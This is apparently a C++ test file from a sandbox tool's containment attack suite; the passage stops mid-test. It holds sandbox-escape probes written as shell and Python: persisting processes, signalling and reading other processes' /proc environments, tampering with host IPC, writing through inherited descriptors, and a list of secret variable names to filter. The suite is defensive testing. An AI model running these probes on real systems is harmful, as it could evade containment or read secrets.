// The containment attack suite (SPEC-sandbox.md "Containment", issue #19):
// each test runs the real `warden exec` binary with a command that tries to
// leave the run in a way other than the file system — processes that outlive
// it, other processes, SysV IPC, host Unix sockets, inherited descriptors,
// the environment, TMPDIR, parents of the workspace, terminals, symlinked
// protected entries, /dev/shm, the pretend switch, job control — and checks
// the result from OUTSIDE the sandbox, beside a control that must succeed.
// The tests run as root in CI, so the sandbox, not file permissions, is what
// stops each attempt. Every wait is bounded; every target lives in a
// temporary directory (or under a unique name) and is removed afterwards.
#include <errno.h>
#include <fcntl.h>
#include <poll.h>
#include <signal.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/ipc.h>
#include <sys/mman.h>
#include <sys/msg.h>
#include <sys/resource.h>
#include <sys/sem.h>
#include <sys/shm.h>
#include <sys/stat.h>
#include <sys/wait.h>
#include <termios.h>
#include <unistd.h>

#include <string>
#include <vector>

#include "gtest/gtest.h"
#include "tests/sandbox/containment_testutil.h"
#include "tests/sandbox/sandbox_testutil.h"

// Designated initializers name only the options a test needs.
#pragma GCC diagnostic ignored "-Wmissing-field-initializers"

namespace warden::sandbox {
namespace {

using containment::ConnectUnix;
using containment::Descendants;
using containment::DescribeProcesses;
using containment::DrainFd;
using containment::ExitCode;
using containment::HostListeningUnixSockets;
using containment::KillProcesses;
using containment::ListenUnix;
using containment::ProcessesWithMarker;
using containment::ProcessState;
using containment::Python;
using containment::RunWarden;
using containment::SleepSeconds;
using containment::StartWarden;
using containment::Token;
using containment::WaitChild;
using containment::WaitForPath;
using containment::WardenOptions;
using containment::WardenRun;
using testing::Exists;
using testing::MakeTempDir;
using testing::ReadFile;
using testing::RemoveTree;
using testing::RunHost;
using testing::Snapshot;
using testing::WriteFile;

const char* const kModes[] = {"read-only", "workspace-write"};

bool HasLine(const std::string& text, const std::string& line) {
  return ("\n" + text).find("\n" + line + "\n") != std::string::npos;
}
bool HasVar(const std::string& env_output, const std::string& name) {
  return ("\n" + env_output).find("\n" + name + "=") != std::string::npos;
}
bool Contains(const std::string& text, const std::string& part) {
  return text.find(part) != std::string::npos;
}
// The variable names of `env` output, never the values (the test's own
// environment must not end up in a CI log).
std::string Names(const std::string& env_output) {
  std::string names;
  size_t start = 0;
  while (start < env_output.size()) {
    size_t end = env_output.find('\n', start);
    if (end == std::string::npos) end = env_output.size();
    std::string line = env_output.substr(start, end - start);
    names += line.substr(0, line.find('=')) + " ";
    start = end + 1;
  }
  return "names: " + names;
}

class ContainmentTest : public ::testing::Test {
 protected:
  void SetUp() override {
    // The workspace lives under /tmp, as an agent's often does; targets that
    // must stay untouched live under /var/tmp, which no profile here makes
    // writable.
    ws_ = MakeTempDir("/tmp/warden-attack-ws-");
    other_ = MakeTempDir("/var/tmp/warden-attack-other-");
    home_ = MakeTempDir("/var/tmp/warden-attack-home-");
    ASSERT_FALSE(ws_.empty());
    ASSERT_FALSE(other_.empty());
    ASSERT_FALSE(home_.empty());
  }
  void TearDown() override {
    RemoveTree(ws_);
    RemoveTree(other_);
    RemoveTree(home_);
    for (const auto& p : extra_cleanup_) RemoveTree(p);
  }

  // `warden exec --sandbox MODE --cwd WS [EXTRA...] -- /bin/sh -c SCRIPT`.
  WardenRun Sh(const std::string& mode, const std::string& script,
               const std::vector<std::string>& extra = {},
               const WardenOptions& options = {}) {
    std::vector<std::string> args = {"exec", "--sandbox", mode, "--cwd", ws_};
    args.insert(args.end(), extra.begin(), extra.end());
    args.insert(args.end(), {"--", "/bin/sh", "-c", script});
    return RunWarden(args, options);
  }

  // Asserts that no process carrying `marker` exists, then kills any found.
  void ExpectNoProcessesOfRun(const std::string& marker,
                              const std::string& when) {
    std::vector<pid_t> left = ProcessesWithMarker(marker);
    EXPECT_TRUE(left.empty())
        << "processes of the run still exist " << when << ":\n"
        << DescribeProcesses(left);
    KillProcesses(left);
  }

  std::string ws_, other_, home_;
  std::vector<std::string> extra_cleanup_;
};

// ---------------------------------------------------------------------------
// 1. Leftover processes. After `warden exec` returns, no process of the run
// exists, whatever the command did; checked from outside after warden
// returned (the leftover would act later).

// Attack: a setsid'd child in a new session sleeps past the run, then writes
// into the workspace. Checked: right after warden returns no process of the
// run exists, and 1.5 s later the late file was never written.
TEST_F(ContainmentTest, SetsidChildDoesNotOutliveTheRun) {
  for (const char* mode : kModes) {
    SCOPED_TRACE(mode);
    std::string mark = Token("setsid");
    std::string late = ws_ + "/late-" + mark;
    WardenRun r = Sh(mode, "export WARDEN_MARK=" + mark +
                               "; setsid sh -c 'sleep 1; touch " + late +
                               "' </dev/null >/dev/null 2>&1 & sleep 0.2");
    EXPECT_FALSE(r.hung);
    EXPECT_EQ(r.code, 0) << r.err;
    ExpectNoProcessesOfRun(mark, "right after warden returned");
    SleepSeconds(1.5);
    EXPECT_FALSE(Exists(late)) << "a process of the run wrote after it ended";
    ExpectNoProcessesOfRun(mark, "1.5 s after warden returned");
  }
}

// Attack (issue #19, critical): the leftover waits until warden has removed
// its placeholders, then creates the protected `.codex` and `.git` the
// user's next unsandboxed `git status` would trust.
TEST_F(ContainmentTest, LeftoverCannotPlantProtectedEntriesAfterTheRun) {
  std::string mark = Token("plant");
  WardenRun r = Sh("workspace-write",
                   "export WARDEN_MARK=" + mark +
                       "; setsid sh -c 'sleep 1; mkdir .codex; mkdir .git; "
                       "echo \"[core]\" > .git/config' </dev/null >/dev/null "
                       "2>&1 & sleep 0.3");
  EXPECT_EQ(r.code, 0) << r.err;
  ExpectNoProcessesOfRun(mark, "right after warden returned");
  SleepSeconds(1.5);
  EXPECT_FALSE(Exists(ws_ + "/.codex"));
  EXPECT_FALSE(Exists(ws_ + "/.git"));
  ExpectNoProcessesOfRun(mark, "1.5 s after warden returned");
}

// Attack: the other ways of leaving a process behind — double fork, nohup,
// a classic daemon (fork, setsid, fork, close fds, chdir /), and a setsid'd
// child that ignores TERM, HUP and INT.
TEST_F(ContainmentTest, DoubleForkNohupAndDaemonsDoNotOutliveTheRun) {
  for (const char* mode : kModes) {
    SCOPED_TRACE(mode);
    std::string mark = Token("daemon");
    std::string late = ws_ + "/late-" + mark;
    std::string script =
        "export WARDEN_MARK=" + mark + "\n( ( sleep 1; touch " + late +
        "-doublefork ) </dev/null >/dev/null 2>&1 & )\n"
        "nohup sh -c 'sleep 1; touch " +
        late + "-nohup' </dev/null >/dev/null 2>&1 &\n" +
        "setsid sh -c 'trap \"\" TERM HUP INT; sleep 1; touch " + late +
        "-trap' </dev/null >/dev/null 2>&1 &\n" + Python() +
        " -c 'import os, sys, time\n"
        "if os.fork(): sys.exit(0)\n"
        "os.setsid()\n"
        "if os.fork(): os._exit(0)\n"
        "os.chdir(\"/\")\n"
        "[os.close(fd) for fd in (0, 1, 2)]\n"
        "time.sleep(1)\n"
        "open(sys.argv[1], \"w\").close()' " +
        late + "-daemon\nsleep 0.3\n";
    WardenRun r = Sh(mode, script);
    EXPECT_FALSE(r.hung);
    EXPECT_EQ(r.code, 0) << r.err;
    ExpectNoProcessesOfRun(mark, "right after warden returned");
    SleepSeconds(1.5);
    for (const char* kind : {"-doublefork", "-nohup", "-trap", "-daemon"}) {
      EXPECT_FALSE(Exists(late + kind)) << kind << " outlived the run";
    }
    ExpectNoProcessesOfRun(mark, "1.5 s after warden returned");
  }
}

// Attack: --timeout kills only the command's process group today; a setsid'd
// child survives it. The run must end with 124 and nothing left.
TEST_F(ContainmentTest, TimeoutKillsSetsidChildrenToo) {
  std::string mark = Token("timeout");
  std::string late = ws_ + "/late-" + mark;
  WardenRun r =
      Sh("workspace-write",
         "export WARDEN_MARK=" + mark + "; setsid sh -c 'sleep 1.5; touch " +
             late + "' </dev/null >/dev/null 2>&1 & sleep 30",
         {"--timeout", "0.5"}, {.limit_seconds = 20});
  EXPECT_FALSE(r.hung);
  EXPECT_EQ(r.code, 124) << r.err;
  EXPECT_LT(r.seconds, 10);
  ExpectNoProcessesOfRun(mark, "right after the timeout");
  SleepSeconds(2);
  EXPECT_FALSE(Exists(late)) << "the setsid'd child survived the timeout";
  ExpectNoProcessesOfRun(mark, "2 s after the timeout");
}

// Control: a foreground command's output and status pass through, and a
// background job the command waits for runs to its end.
TEST_F(ContainmentTest, ForegroundOutputStatusAndWaitedJobsPassThrough) {
  for (const char* mode : kModes) {
    SCOPED_TRACE(mode);
    WardenRun r = Sh(mode, "echo out; echo err >&2; exit 7");
    EXPECT_EQ(r.code, 7);
    EXPECT_EQ(r.out, "out\n");
    EXPECT_TRUE(Contains(r.err, "err\n")) << r.err;
  }
  WardenRun job =
      Sh("workspace-write", "(sleep 0.3; touch done) & wait; echo waited");
  EXPECT_EQ(job.code, 0) << job.err;
  EXPECT_EQ(job.out, "waited\n");
  EXPECT_TRUE(Exists(ws_ + "/done"));
}

// ---------------------------------------------------------------------------
// 2. Other processes are invisible and untouchable.

class Victim {
 public:
  // An outside process (this test's own child): `sh -c 'sleep 60; :' MARK`
  // with a secret in its environment, in a process group of its own.
  explicit Victim(const std::string& mark) {
    secret_ = mark + "-secret";
    std::string env0 = "WARDEN_VICTIM_SECRET=" + secret_;
    pid_ = fork();
    if (pid_ == 0) {
      setpgid(0, 0);
      char* envp[] = {env0.data(), const_cast<char*>("PATH=/usr/bin:/bin"),
                      nullptr};
      execle("/bin/sh", "sh", "-c", "sleep 60; :", mark.c_str(), nullptr, envp);
      _exit(99);
    }
    std::string cmdline = "/proc/" + std::to_string(pid_) + "/cmdline";
    for (int i = 0; i < 500 && !Contains(ReadFile(cmdline), mark); ++i) {
      usleep(2000);
    }
  }
  ~Victim() {
    kill(-pid_, SIGKILL);
    kill(pid_, SIGKILL);
    waitpid(pid_, nullptr, 0);
  }
  pid_t pid() const { return pid_; }
  const std::string& secret() const { return secret_; }
  bool Alive() const {
    int status;
    return waitpid(pid_, &status, WNOHANG) == 0;
  }
  std::string CpuLimit() const {
    std::string limits = ReadFile("/proc/" + std::to_string(pid_) + "/limits");
    size_t at = limits.find("Max cpu time");
    return at == std::string::npos
               ? ""
               : limits.substr(at, limits.find('\n', at) - at);
  }
  int Nice() const { return getpriority(PRIO_PROCESS, pid_); }

 private:
  pid_t pid_ = -1;
  std::string secret_;
};

// Attack: signals, prlimit, renice and /proc/PID/* on a process outside the
// run. Checked outside: it survives with its limits and priority unchanged;
// inside, nothing about it (environment, command line, ideally its very
// pid) can be read.
TEST_F(ContainmentTest, OutsideProcessesCannotBeSignalledLimitedOrRead) {
  for (const char* mode : kModes) {
    SCOPED_TRACE(mode);
    std::string mark = Token("victim");
    Victim victim(mark);
    ASSERT_TRUE(victim.Alive());
    std::string cpu_before = victim.CpuLimit();
    int nice_before = victim.Nice();
    std::string pid = std::to_string(victim.pid());
    WardenRun r = Sh(mode, "kill -0 " + pid +
                               " 2>/dev/null && echo kill0-ok\n"
                               "kill -TERM " +
                               pid +
                               " 2>/dev/null && echo kill-term-ok\n"
                               "prlimit --pid " +
                               pid +
                               " --cpu=1:1 2>/dev/null && echo prlimit-ok\n"
                               "renice -n 19 -p " +
                               pid +
                               " >/dev/null 2>&1 && echo renice-ok\n"
                               "cat /proc/" +
                               pid +
                               "/environ 2>/dev/null; echo\n"
                               "cat /proc/" +
                               pid +
                               "/cmdline 2>/dev/null; echo\n"
                               "test -e /proc/" +
                               pid +
                               " && echo pid-visible\n"
                               "exit 0");
    EXPECT_EQ(r.code, 0) << r.err;
    SleepSeconds(0.2);
    EXPECT_FALSE(Contains(r.out, "kill0-ok")) << "kill -0 reached it";
    EXPECT_FALSE(Contains(r.out, "kill-term-ok")) << "kill -TERM reached it";
    EXPECT_TRUE(victim.Alive()) << "the outside process was killed";
    EXPECT_FALSE(Contains(r.out, "prlimit-ok")) << "prlimit reached it";
    EXPECT_EQ(victim.CpuLimit(), cpu_before);
    EXPECT_FALSE(Contains(r.out, "renice-ok")) << "renice reached it";
    EXPECT_EQ(victim.Nice(), nice_before);
    EXPECT_FALSE(Contains(r.out, victim.secret()))
        << "/proc/PID/environ of an outside process was read";
    EXPECT_FALSE(Contains(r.out, mark)) << "/proc/PID/cmdline was read";
    EXPECT_FALSE(Contains(r.out, "pid-visible"))
        << "the outside pid is visible in the run's /proc";
  }
}

// Control: signals to the run's own children work.
TEST_F(ContainmentTest, SignalsToTheRunsOwnChildrenWork) {
  for (const char* mode : kModes) {
    SCOPED_TRACE(mode);
    WardenRun r = Sh(mode,
                     "sleep 30 & p=$!; kill -0 $p && kill -TERM $p; wait $p; "
                     "echo status=$?");
    EXPECT_EQ(r.code, 0) << r.err;
    EXPECT_EQ(r.out, "status=143\n");
  }
}

// ---------------------------------------------------------------------------
// 3. SysV IPC of the host is unreachable; the run's own objects vanish.

const char kShmProbe[] = R"PY(
import ctypes, sys
libc = ctypes.CDLL(None, use_errno=True)
libc.shmat.restype = ctypes.c_void_p
libc.shmat.argtypes = [ctypes.c_int, ctypes.c_void_p, ctypes.c_int]
bad = ctypes.c_void_p(-1).value
key = int(sys.argv[1])
sid = libc.shmget(key, 0, 0)
print("shmget", sid, ctypes.get_errno())
if sid >= 0:
    p = libc.shmat(sid, None, 0)
    if p is not None and p != bad:
        print("attached", ctypes.string_at(p, 12))
        ctypes.memmove(p, b"PWNED-INSIDE", 12)
# The host's semaphore set and message queue.
hs = libc.semget(int(sys.argv[5]), 0, 0)
if hs >= 0:
    print("host-sem-found", hs)
    libc.semctl(hs, 0, 16, 42)  # SETVAL
hq = libc.msgget(int(sys.argv[6]), 0)
if hq >= 0:
    print("host-msg-found", hq)
    msg = ctypes.create_string_buffer(b"\x01\0\0\0\0\0\0\0PWNED", 16)
    libc.msgsnd(hq, msg, 5, 0o4000)  # IPC_NOWAIT
for k, what in ((int(sys.argv[2]), "shm"), (int(sys.argv[3]), "sem"),
                (int(sys.argv[4]), "msg")):
    if what == "shm":
        r = libc.shmget(k, 4096, 0o1000 | 0o600)
    elif what == "sem":
        r = libc.semget(k, 1, 0o1000 | 0o600)
    else:
        r = libc.msgget(k, 0o1000 | 0o600)
    print("created", what, r)
# Control: a private segment used within the run.
pid = libc.shmget(0, 4096, 0o1000 | 0o600)
p = libc.shmat(pid, None, 0)
ctypes.memmove(p, b"roundtrip", 9)
print("own-shm", ctypes.string_at(p, 9).decode())
libc.shmctl(pid, 0, None)
)PY";

TEST_F(ContainmentTest, HostSysVIpcIsUnreachableAndRunObjectsVanish) {
  for (const char* mode : kModes) {
    SCOPED_TRACE(mode);
    key_t base = 0x57a00000 | ((getpid() & 0xfff) << 4) |
                 (std::string(mode) == "read-only" ? 0 : 8);  // 6 keys each
    key_t host_key = base, shm_key = base + 1, sem_key = base + 2,
          msg_key = base + 3;
    int host_id = shmget(host_key, 4096, IPC_CREAT | IPC_EXCL | 0600);
    ASSERT_GE(host_id, 0) << strerror(errno);
    char* mem = static_cast<char*>(shmat(host_id, nullptr, 0));
    ASSERT_NE(mem, reinterpret_cast<char*>(-1));
    memcpy(mem, "OUTSIDE-MARK", 12);
    key_t host_sem_key = base + 4, host_msg_key = base + 5;
    int host_sem = semget(host_sem_key, 1, IPC_CREAT | IPC_EXCL | 0600);
    int host_msg = msgget(host_msg_key, IPC_CREAT | IPC_EXCL | 0600);
    ASSERT_GE(host_sem, 0) << strerror(errno);
    ASSERT_GE(host_msg, 0) << strerror(errno);
    WardenRun r = RunWarden(
        {"exec", "--sandbox", mode, "--cwd", ws_, "--", Python(), "-c",
         kShmProbe, std::to_string(host_key), std::to_string(shm_key),
         std::to_string(sem_key), std::to_string(msg_key),
         std::to_string(host_sem_key), std::to_string(host_msg_key)});
    EXPECT_EQ(r.code, 0) << r.err;
    EXPECT_FALSE(Contains(r.out, "attached"))
        << "a host SysV segment was attached:\n"
        << r.out;
    EXPECT_EQ(std::string(mem, 12), "OUTSIDE-MARK");
    shmdt(mem);
    shmctl(host_id, IPC_RMID, nullptr);
    EXPECT_FALSE(Contains(r.out, "host-sem-found")) << r.out;
    EXPECT_EQ(semctl(host_sem, 0, GETVAL), 0) << "host semaphore changed";
    EXPECT_FALSE(Contains(r.out, "host-msg-found")) << r.out;
    struct msqid_ds q = {};
    msgctl(host_msg, IPC_STAT, &q);
    EXPECT_EQ(q.msg_qnum, 0u) << "a message reached the host's queue";
    semctl(host_sem, 0, IPC_RMID);
    msgctl(host_msg, IPC_RMID, nullptr);
    // Control: SysV shared memory works within the run.
    EXPECT_TRUE(Contains(r.out, "own-shm roundtrip")) << r.out;
    // Objects made inside must not persist on the host.
    int shm_left = shmget(shm_key, 0, 0);
    int sem_left = semget(sem_key, 0, 0);
    int msg_left = msgget(msg_key, 0);
    EXPECT_LT(shm_left, 0) << "a segment made inside persists on the host";
    EXPECT_LT(sem_left, 0) << "a semaphore made inside persists on the host";
    EXPECT_LT(msg_left, 0) << "a queue made inside persists on the host";
    if (shm_left >= 0) shmctl(shm_left, IPC_RMID, nullptr);
    if (sem_left >= 0) semctl(sem_left, 0, IPC_RMID);
    if (msg_left >= 0) msgctl(msg_left, IPC_RMID, nullptr);
  }
}

// ---------------------------------------------------------------------------
// 4. Unix sockets listening outside the run are unreachable.

const char kConnectProbe[] = R"PY(
import socket, sys
for arg in sys.argv[1:]:
    kind, addr = arg.split(":", 1)
    s = socket.socket(socket.AF_UNIX, int(kind))
    s.settimeout(2)
    target = "\0" + addr[1:] if addr.startswith("@") else addr
    try:
        s.connect(target)
        print("CONNECTED", addr)
    except OSError as e:
        print("refused", addr, e.errno)
    s.close()
)PY";

// Attack: connect to listeners the test makes outside — abstract, in the
// workspace, in $HOME, directly under /tmp — from both modes.
TEST_F(ContainmentTest, OutsideUnixListenersAreUnreachable) {
  std::string mark = Token("sock");
  std::vector<std::string> addresses = {
      "@warden-attack-" + mark, ws_ + "/host.sock", home_ + "/agent.sock",
      "/tmp/warden-attack-" + mark + ".sock"};
  extra_cleanup_.push_back(addresses[3]);
  std::vector<int> fds;
  for (const auto& a : addresses) {
    int fd = ListenUnix(a);
    ASSERT_GE(fd, 0) << a << ": " << strerror(errno);
    fds.push_back(fd);
    ASSERT_TRUE(ConnectUnix(a)) << "control from outside: " << a;
  }
  for (const char* mode : kModes) {
    SCOPED_TRACE(mode);
    std::vector<std::string> args = {"exec",   "--sandbox", mode,
                                     "--cwd",  ws_,         "--",
                                     Python(), "-c",        kConnectProbe};
    for (const auto& a : addresses) args.push_back("1:" + a);
    WardenRun r = RunWarden(args, {.env_set = {"HOME=" + home_}});
    EXPECT_EQ(r.code, 0) << r.err;
    for (const auto& a : addresses) {
      EXPECT_FALSE(HasLine(r.out, "CONNECTED " + a))
          << "reached the outside listener " << a;
    }
  }
  for (int fd : fds) close(fd);
}

// Attack: every listening Unix socket of the host (as `ss -xl` lists them,
// from /proc/net/unix), plus ones the test makes in the workspace and $HOME;
// none may accept a connection from a run.
TEST_F(ContainmentTest, NoListeningHostUnixSocketAcceptsARun) {
  std::string mark = Token("all");
  int in_ws = ListenUnix(ws_ + "/ws.sock");
  int in_home = ListenUnix(home_ + "/home.sock");
  ASSERT_GE(in_ws, 0);
  ASSERT_GE(in_home, 0);
  std::vector<containment::UnixListener> listeners = HostListeningUnixSockets();
  bool saw_ws = false;
  for (const auto& l : listeners) saw_ws |= l.address == ws_ + "/ws.sock";
  EXPECT_TRUE(saw_ws) << "/proc/net/unix did not list the test's listener";
  std::string listed;
  for (const auto& l : listeners) listed += "  " + l.address + "\n";
  for (const char* mode : kModes) {
    SCOPED_TRACE(mode);
    std::vector<std::string> args = {"exec",   "--sandbox", mode,
                                     "--cwd",  ws_,         "--",
                                     Python(), "-c",        kConnectProbe};
    for (const auto& l : listeners) {
      args.push_back(std::to_string(l.type) + ":" + l.address);
    }
    WardenRun r = RunWarden(args, {.env_set = {"HOME=" + home_}});
    EXPECT_EQ(r.code, 0) << r.err;
    EXPECT_FALSE(Contains(r.out, "CONNECTED"))
        << "host listeners reachable from the run:\n"
        << r.out << "listed:\n"
        << listed;
  }
  close(in_ws);
  close(in_home);
}

const char kOwnSockets[] = R"PY(
import os, socket, sys, threading
def serve(srv):
    c, _ = srv.accept()
    c.sendall(c.recv(16).upper())
    c.close()
def roundtrip(family_addr, label):
    srv = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
    srv.bind(family_addr)
    srv.listen(1)
    t = threading.Thread(target=serve, args=(srv,))
    t.start()
    c = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
    c.settimeout(5)
    c.connect(family_addr)
    c.sendall(b"ping")
    print(label, c.recv(16).decode())
    t.join()
a, b = socket.socketpair()
a.sendall(b"ping"); print("socketpair", b.recv(4).decode())
roundtrip("\0warden-own-" + sys.argv[1], "abstract")
if len(sys.argv) > 2:
    roundtrip(sys.argv[2], "pathname")
    os.unlink(sys.argv[2])
# Another process of the run connects (not just another thread).
if len(sys.argv) > 2:
    srv = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
    srv.bind(sys.argv[2]); srv.listen(1)
    if os.fork() == 0:
        c = socket.socket(socket.AF_UNIX); c.connect(sys.argv[2])
        c.sendall(b"child"); os._exit(0)
    conn, _ = srv.accept(); print("process", conn.recv(16).decode())
    os.wait(); os.unlink(sys.argv[2])
)PY";

// Control: processes of one run talk over Unix sockets — socketpair,
// abstract, and (where the run may write) a pathname in the workspace.
TEST_F(ContainmentTest, UnixSocketsWithinARunWork) {
  for (const char* mode : kModes) {
    SCOPED_TRACE(mode);
    bool writable = std::string(mode) == "workspace-write";
    std::vector<std::string> args = {
        "exec", "--sandbox", mode, "--cwd",     ws_,
        "--",   Python(),    "-c", kOwnSockets, Token("own")};
    if (writable) args.push_back(ws_ + "/own.sock");
    WardenRun r = RunWarden(args, {.limit_seconds = 30});
    EXPECT_EQ(r.code, 0) << r.err;
    EXPECT_TRUE(HasLine(r.out, "socketpair ping")) << r.out;
    EXPECT_TRUE(HasLine(r.out, "abstract PING")) << r.out << r.err;
    if (writable) {
      EXPECT_TRUE(HasLine(r.out, "pathname PING")) << r.out << r.err;
      EXPECT_TRUE(HasLine(r.out, "process child")) << r.out << r.err;
    }
  }
}

// ---------------------------------------------------------------------------
// 5. Inherited descriptors: only 0, 1 and 2 reach the command.

// Attack: the caller leaves open (no O_CLOEXEC) a writable fd to a file
// outside every writable root (as fd 50), a directory fd of the workspace's
// .git (fd 51) and one of a directory outside the roots (fd 52). Inside, the
// command writes through >&50, /proc/self/fd/50, and openat(51, "config") /
// openat(52, "planted"). Checked outside: all untouched.
TEST_F(ContainmentTest, InheritedDescriptorsAreClosedBeforeExec) {
  std::string target = other_ + "/target.txt";
  ASSERT_TRUE(WriteFile(target, "original\n"));
  ASSERT_EQ(mkdir((ws_ + "/.git").c_str(), 0755), 0);
  ASSERT_TRUE(WriteFile(ws_ + "/.git/config", "[core]\n"));
  for (const char* mode : kModes) {
    SCOPED_TRACE(mode);
    auto git_before = Snapshot(ws_ + "/.git");
    int wfd = open(target.c_str(), O_WRONLY | O_APPEND);
    int gitfd = open((ws_ + "/.git").c_str(), O_RDONLY | O_DIRECTORY);
    int odir = open(other_.c_str(), O_RDONLY | O_DIRECTORY);
    ASSERT_GE(wfd, 0);
    ASSERT_GE(gitfd, 0);
    ASSERT_GE(odir, 0);
    std::string script =
        "for n in 50 51 52; do [ -e /proc/self/fd/$n ] && echo fd-$n-open; "
        "done\n"
        // (dash's >&N takes one digit only: write fd 50 from Python.)
        "echo pwned-proc >> /proc/self/fd/50\n" +
        Python() + " -c 'import os; os.write(50, b\"pwned-direct\")'\n" +
        Python() +
        " -c 'import os\n"
        "for n, name in ((51, \"config\"), (52, \"planted\")):\n"
        "    try:\n"
        "        fd = os.open(name, os.O_WRONLY | os.O_CREAT | os.O_TRUNC, "
        "0o644, dir_fd=n)\n"
        "        os.write(fd, b\"pwned\"); print(\"wrote\", n)\n"
        "    except OSError as e:\n"
        "        print(\"denied\", n, e.errno)'\n"
        "exit 0";
    WardenRun r = Sh(mode, script, {},
                     {.inherit_fds = {{wfd, 50}, {gitfd, 51}, {odir, 52}}});
    close(wfd);
    close(gitfd);
    close(odir);
    EXPECT_EQ(r.code, 0) << r.err;
    for (const char* fd : {"50", "51", "52"}) {
      EXPECT_FALSE(HasLine(r.out, std::string("fd-") + fd + "-open"))
          << "inherited fd " << fd << " reached the command";
    }
    EXPECT_EQ(ReadFile(target), "original\n")
        << "written through an inherited fd";
    EXPECT_EQ(Snapshot(ws_ + "/.git"), git_before)
        << ".git written through an inherited directory fd";
    EXPECT_FALSE(Exists(other_ + "/planted"))
        << "created outside the roots through an inherited directory fd";
  }
}

// Control: stdin, stdout and stderr pass through.
TEST_F(ContainmentTest, StandardDescriptorsPassThrough) {
  for (const char* mode : kModes) {
    SCOPED_TRACE(mode);
    int in = memfd_create("stdin", MFD_CLOEXEC);
    ASSERT_EQ(write(in, "hello-stdin\n", 12), 12);
    lseek(in, 0, SEEK_SET);
    WardenRun r = Sh(mode, "cat; echo to-err >&2", {}, {.stdin_fd = in});
    close(in);
    EXPECT_EQ(r.code, 0) << r.err;
    EXPECT_EQ(r.out, "hello-stdin\n");
    EXPECT_TRUE(Contains(r.err, "to-err\n")) << r.err;
  }
}

// ---------------------------------------------------------------------------
// 6. Environment: secrets and host-agent addresses do not reach the command.

std::vector<std::string> SecretEnv(const std::string& mark) {
  return {"GITHUB_TOKEN=gh-" + mark,
          "AWS_SECRET_ACCESS_KEY=aws-" + mark,
          "MY_API_KEY=key-" + mark,
          "github_token=lower-" + mark,
          "Npm_Auth_Token=mixed-" + mark,
          "SSH_AUTH_SOCK=/tmp/ssh-" + mark,
          "DBUS_SESSION_BUS_ADDRESS=unix:path=/tmp/dbus-" + mark,
          "GPG_AGENT_INFO=/tmp/gpg-" + mark,
          "DOCKER_HOST=unix:///tmp/docker-" + mark,
          "WARDEN_ATTACK_PLAIN=plain-value"};
}

// Attack: read secrets from the environment (`env` inside). By default
// (inherit = all) none of *KEY*, *SECRET*, *TOKEN* (any case) nor the
// host-agent addresses pass; ordinary variables, PATH and HOME do.
TEST_F(ContainmentTest, SecretsAndAgentAddressesAreNotInherited) {
  std::string mark = Token("env");
  for (const char* mode : kModes) {
    SCOPED_TRACE(mode);
    WardenRun r = RunWarden(
        {"exec", "--sandbox", mode, "--cwd", ws_, "--", "/usr/bin/env"},
        {.env_set = SecretEnv(mark)});
    EXPECT_EQ(r.code, 0) << r.err;
    for (const char* name :
         {"GITHUB_TOKEN", "AWS_SECRET_ACCESS_KEY", "MY_API_KEY", "github_token",
          "Npm_Auth_Token", "SSH_AUTH_SOCK", "DBUS_SESSION_BUS_ADDRESS",
          "GPG_AGENT_INFO", "DOCKER_HOST"}) {
      EXPECT_FALSE(HasVar(r.out, name)) << name << " reached the command";
    }
    EXPECT_FALSE(Contains(r.out, mark)) << Names(r.out);
    // Controls.
    EXPECT_TRUE(HasVar(r.out, "PATH")) << Names(r.out);
    EXPECT_TRUE(HasVar(r.out, "HOME")) << Names(r.out);
    EXPECT_TRUE(HasLine(r.out, "WARDEN_ATTACK_PLAIN=plain-value"))
        << Names(r.out);
  }
}

// --env-keep keeps a named variable; --env-set sets one; --env-inherit
// none | core | all as SPEC-runtime R5 (core = HOME, LOGNAME, PATH, SHELL,
// USER, USERNAME, TMPDIR, TEMP, TMP).
TEST_F(ContainmentTest, EnvironmentFlagsFollowThePolicy) {
  std::string mark = Token("envf");
  std::vector<std::string> env = SecretEnv(mark);
  env.push_back("USER=attack-user");
  auto run = [&](std::vector<std::string> flags) {
    std::vector<std::string> args = {"exec", "--sandbox", "workspace-write",
                                     "--cwd", ws_};
    args.insert(args.end(), flags.begin(), flags.end());
    args.insert(args.end(), {"--", "/usr/bin/env"});
    return RunWarden(args, {.env_set = env});
  };
  WardenRun keep = run({"--env-keep", "MY_API_KEY"});
  EXPECT_EQ(keep.code, 0) << keep.err;
  EXPECT_TRUE(HasLine(keep.out, "MY_API_KEY=key-" + mark)) << Names(keep.out);
  EXPECT_FALSE(HasVar(keep.out, "GITHUB_TOKEN"));

  WardenRun set = run({"--env-set", "FOO=bar"});
  EXPECT_EQ(set.code, 0) << set.err;
  EXPECT_TRUE(HasLine(set.out, "FOO=bar")) << Names(set.out);

  WardenRun none = run({"--env-inherit", "none", "--env-set", "FOO=bar"});
  EXPECT_EQ(none.code, 0) << none.err;
  EXPECT_TRUE(HasLine(none.out, "FOO=bar")) << Names(none.out);
  for (const char* name :
       {"HOME", "USER", "WARDEN_ATTACK_PLAIN", "MY_API_KEY"}) {
    EXPECT_FALSE(HasVar(none.out, name)) << name << " with inherit none";
  }

  WardenRun core = run({"--env-inherit", "core"});
  EXPECT_EQ(core.code, 0) << core.err;
  EXPECT_TRUE(HasVar(core.out, "PATH")) << Names(core.out);
  EXPECT_TRUE(HasVar(core.out, "HOME")) << Names(core.out);
  EXPECT_TRUE(HasLine(core.out, "USER=attack-user")) << Names(core.out);
  EXPECT_FALSE(HasVar(core.out, "WARDEN_ATTACK_PLAIN")) << Names(core.out);
  EXPECT_FALSE(Contains(core.out, mark)) << Names(core.out);

  WardenRun all = run({"--env-inherit", "all"});
  EXPECT_EQ(all.code, 0) << all.err;
  EXPECT_TRUE(HasLine(all.out, "WARDEN_ATTACK_PLAIN=plain-value"))
      << Names(all.out);
  EXPECT_FALSE(Contains(all.out, mark))
      << "the default excludes apply with inherit all too:\n"
      << Names(all.out);
}

// ---------------------------------------------------------------------------
// 7. TMPDIR and the private /tmp.

// Attack: a hostile caller TMPDIR (a directory outside the roots, /etc, /)
// becomes a writable root today. Checked outside: nothing written; inside,
// TMPDIR is /tmp.
TEST_F(ContainmentTest, CallerTmpdirIsNeverAWritableRoot) {
  std::string mark = Token("tmpdir");
  std::string etc_target = "/etc/warden-attack-" + mark;
  // TMPDIR = a directory outside the roots.
  WardenRun a = Sh("workspace-write",
